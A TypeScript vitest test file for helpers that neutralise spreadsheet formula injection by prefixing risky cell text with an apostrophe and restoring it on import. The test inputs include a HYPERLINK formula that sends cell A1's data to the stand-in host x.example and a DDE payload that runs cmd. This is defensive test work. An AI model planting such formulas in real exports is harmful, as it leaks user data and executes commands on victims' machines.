import { describe, expect, it } from 'vitest';
import { importedCellText, inertCellText } from './cellText';

describe('text that a spreadsheet could run as a formula', () => {
  it.each([
    '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '- Chi bộ ấp 1',
  ])('%j is written inert and read back as it was', (text) => {
    expect(inertCellText(text)).toBe(`'${text}`);
    expect(importedCellText(inertCellText(text))).toBe(text);
  });

  it.each(['Nguyễn Văn Hùng', '-5', '+84', '1.5e3', '-', '=', '', "'quoted", 'a=b'])('%j is left as it is both ways', (text) => {
    expect(inertCellText(text)).toBe(text);
    expect(importedCellText(text)).toBe(text);
  });
});
